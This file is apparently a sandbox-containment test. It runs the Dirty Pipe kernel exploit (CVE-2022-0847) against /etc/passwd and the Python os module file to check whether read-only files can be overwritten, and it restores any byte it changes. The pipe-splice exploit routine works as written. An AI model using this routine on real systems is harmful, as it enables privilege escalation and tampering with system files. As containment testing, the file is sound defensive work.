# attack: write into the memory of a file that we can only read, through a pipe ("dirty pipe", CVE-2022-0847)
# expect: CONTAINED
# bare: no, only kernels from 5.8 to 5.16.10 let it
import fcntl
import os

from hostile import breach, contained, finish

F_GETPIPE_SZ = 1032


def write_through(file, offset, data):
    """As the exploit: a pipe whose buffers once could be written to, then one of the file's page."""
    readable, writable = os.pipe()
    room = fcntl.fcntl(writable, F_GETPIPE_SZ)
    os.write(writable, bytes(room))
    while room > 0:
        room -= len(os.read(readable, room))
    os.splice(file, writable, 1, offset_src=offset - 1)
    os.write(writable, data)
    os.close(readable)
    os.close(writable)


for path in (os.__file__, "/etc/passwd"):
    file = os.open(path, os.O_RDONLY)
    before = os.pread(file, 4096, 0)
    write_through(file, 1, bytes([before[1] ^ 1]))
    if os.pread(file, 4096, 0) != before:
        write_through(file, 1, before[1:2])
        breach(f"{path} was changed")
    else:
        contained(f"{path} is as it was")
finish()
